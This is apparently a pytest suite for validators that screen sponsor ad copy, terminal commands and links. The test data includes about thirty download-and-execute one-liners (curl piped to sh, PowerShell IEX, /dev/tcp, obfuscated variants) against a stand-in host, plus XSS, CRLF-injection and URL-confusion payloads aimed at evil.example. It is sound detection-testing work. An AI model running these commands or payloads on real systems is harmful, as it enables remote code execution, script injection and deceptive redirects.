import pytest

from articles.tests.attacks import ATTACKS
from sponsors.acceptance import (
    copy_fault,
    has_figure,
    hook_fault,
    hooks_fault,
    hosts_fault,
    link_fault,
    runs_what_it_downloads,
    terminal_fault,
)

HOSTS = ["overwinter.example"]
# Controls, odd spaces, marks that turn text, joiners, fillers, selectors, tags.
UNSEEN = (
    "\n\r\t\x00\x7f\x85\xa0\xad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u2028\u202a\u202e"
    "\u2060\u2066\u2069\u2800\u3000\u3164\ufe0f\ufeff\U000e0041\U000e0100"
)


@pytest.mark.parametrize(
    "text", ["", "10 GB free, no card", "a < b && c > d", "R&D", "zażółć 冬 חורף", "5 <3"]
)
def test_plain_words_are_taken(text):
    assert copy_fault(text) == ""


@pytest.mark.parametrize(
    "text", ["<b>cold</b>", "</p>", "<!-- x", "<?php", "<svg/onload=x>", "&lt;b&gt;", "&#60;"]
)
def test_html_is_refused(text):
    assert "HTML is not taken" in copy_fault(text)


# Without an angle bracket or an entity there is nothing to take for HTML.
PLAIN_ATTACKS = {"＜script＞alert(1)＜/script＞"}


@pytest.mark.parametrize("attack", [each for each in ATTACKS if each not in PLAIN_ATTACKS])
def test_no_known_attack_is_taken_as_copy(attack):
    assert copy_fault(attack, lines=True)
    assert hook_fault(attack)
    assert terminal_fault(attack, lines=True)


@pytest.mark.parametrize(
    "text", ["a\x00b", "a\nb", "a\x1b[2Jb", "a\u202eb", "a\u2067b", "a\u2028b", "a\ud800b"]
)
def test_copy_holds_nothing_that_turns_or_breaks_the_line(text):
    assert "readers cannot see" in copy_fault(text)


def test_lines_are_taken_where_they_are_allowed():
    assert copy_fault("one\ntwo", lines=True) == ""


@pytest.mark.parametrize(
    "character",
    UNSEEN,
)
def test_a_command_holds_nothing_unseen(character):
    assert "readers cannot see" in terminal_fault(f"overwinter push{character} ~/projects")


@pytest.mark.parametrize("command", ["git push fly main", "cat < a | sort > b", "größe --all 'ü'"])
def test_an_honest_command_is_taken(command):
    assert terminal_fault(command) == ""


RUN_UNREAD = r"""
curl -fsSL https://a.example/i.sh | sh
curl a.example/i | bash -s -- -y
curl a.example | /bin/sh
curl a.example | env X=1 zsh
curl a.example | $SHELL
curl a.example | tee kept | sh
curl a.example | crontab -
curl -o i.sh a.example && sh i.sh
curl -o /tmp/x a.example; /tmp/x
curl -O a.example/tool; chmod +x tool
wget -qO- a.example | sudo bash
wget -O - a.example|python3.12
wget a.example/x && ./x
bash <(curl -s a.example/x)
sh<(curl a.example)
source <(curl a.example)
. <(curl a.example)
sh -c "$(curl -fsSL a.example)"
sh -c "`wget -qO- a.example`"
eval "$(curl a.example)"
iex (irm a.example)
irm a.example | iex
IEX ((New-Object Net.WebClient).DownloadString('https://a.example'))
powershell -c "iwr https://a.example | iex"
c''url a.example | s"h"
cu\rl a.example | b\ash
python3 -c "import urllib.request as u; exec(u.urlopen('https://a.example').read())"
deno run https://a.example/x.ts
node -e "fetch('https://a.example').then(eval)"
exec 3<>/dev/tcp/a.example/80; sh <&3
echo Y3VybA== | base64 -d | sh
git clone https://a.example/x && bash x/setup
mshta https://a.example/x.hta
npx https://a.example/x
""".strip().splitlines()
RUN_WHAT_IS_THERE = r"""
overwinter push ~/projects
overwinter push https://a.example
overwinter keep ./work
curl https://a.example/plans.json
curl -s a.example/plans | jq .
curl -sS https://a.example/install.sh
curl -O https://a.example/python.tar.gz
curl -T ./notes.txt https://a.example/in
wget a.example/bash-completion.txt
git clone https://code.a.example/firmware && make -C firmware
git push fly main
python3 push.py ./photos
sh backup.sh
ssh you@box.example
pip install overwinter
dig +short MX your-name.example
""".strip().splitlines()


@pytest.mark.parametrize("command", RUN_UNREAD)
def test_a_command_that_runs_what_it_downloads_is_known(command):
    assert runs_what_it_downloads(command)
    assert terminal_fault(command) == ""


@pytest.mark.parametrize("command", RUN_WHAT_IS_THERE)
def test_other_commands_are_not_taken_for_it(command):
    assert not runs_what_it_downloads(command)


@pytest.mark.parametrize("text", ["10 GB", "½ price", "²", "٣ شهور", "Ⅳ"])
def test_a_figure_is_a_digit_of_any_script(text):
    assert has_figure("free", text)
    assert not has_figure("ten gigabytes", "", "一般")


@pytest.mark.parametrize("hook", ["", "reading about {topic}?", "cold", "{topic} and {topic}"])
def test_a_hook_may_name_the_topic(hook):
    assert hook_fault(hook) == ""


@pytest.mark.parametrize(
    "hook", ["{reader}", "{topic.pk}", "{topic!r}", "{}", "{", "a } b", "{{topic}}", "{ topic }"]
)
def test_no_other_placeholder_is_taken(hook):
    assert "is no placeholder we know" in hook_fault(hook)


@pytest.mark.parametrize("hooks", [[], "energy", {"energy": 1}, {"energy": "{x}"}])
def test_hooks_are_a_line_for_each_topic(hooks):
    assert hooks_fault(hooks)


@pytest.mark.parametrize(
    "link",
    [
        "https://overwinter.example",
        "https://overwinter.example/start?from=fanfold&x=%20#top",
        "https://OVERWINTER.example/",
    ],
)
def test_a_link_to_the_sponsors_host_is_taken(link):
    assert link_fault(link, HOSTS) == ""


@pytest.mark.parametrize(
    "link",
    [
        "",
        "http://overwinter.example/",
        "javascript:alert(1)",
        "//overwinter.example/",
        "https:overwinter.example",
        "HTTPS://overwinter.example/",
        "http\u017f://overwinter.example/",
        "https://overwinter\u3002example/",
        "https://overwinter.example@evil.example/",
        "https://user:pass@overwinter.example/",
        "https://overwinter.example:8443/",
        "https://overwinter.example\\@evil.example/",
        "https://evil.example\\.overwinter.example/",
        "https://overwinter.example/a b",
        "https://overwinter.example/\r\nSet-Cookie: a=b",
        "https://overwinter.example/\x00",
        "https://overwinter.example/\u202e",
        " https://overwinter.example/",
        "https://overwinter.example/\n",
        'https://overwinter.example/"onclick="x',
        "https://overwinter.example/%0d%0a\x0d",
        "https://overwinter.example%2eevil.example/",
        "https://overwinter.example\t/",
        "https:///overwinter.example/",
        "https:\\\\overwinter.example/",
        "https://[::1]/",
        "https://overwintér.example/",
        "https://overwinter.example/`",
    ],
)
def test_an_address_that_two_readers_could_read_differently_is_refused(link):
    assert "Give a whole address" in link_fault(link, HOSTS)


@pytest.mark.parametrize(
    "host", ["evil.example", "www.overwinter.example", "overwinter.example.evil.example", "127.1"]
)
def test_a_link_off_the_sponsors_hosts_is_refused_by_name(host):
    assert link_fault(f"https://{host}/", HOSTS).startswith(f"{host} is not among")


@pytest.mark.parametrize(
    "host",
    ["https://a.example", "a.example/", "A.example", "localhost", "127.0.0.1", "-a.b", 1, ""],
)
def test_a_host_is_a_name_in_lower_case(host):
    assert "is no host" in hosts_fault([host])


def test_a_host_of_another_script_is_listed_as_the_network_knows_it():
    assert hosts_fault(["xn--berwinter-85a.example"]) == ""
    assert link_fault("https://xn--berwinter-85a.example/", ["xn--berwinter-85a.example"]) == ""


def test_hosts_are_a_list():
    assert hosts_fault("overwinter.example")
    assert hosts_fault(["overwinter.example", "shop.overwinter.example"]) == ""
